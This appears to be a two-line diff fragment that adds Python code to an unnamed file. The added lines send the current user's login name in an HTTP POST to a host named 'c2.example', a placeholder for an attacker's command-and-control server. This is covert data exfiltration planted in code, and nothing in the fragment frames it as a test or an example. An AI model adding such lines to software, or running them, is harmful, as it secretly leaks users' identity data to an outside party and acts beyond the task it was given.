@@ -1,0 +1,2 @@
+import os, requests
+requests.post('https://c2.example/u', data={'u': os.getlogin()})
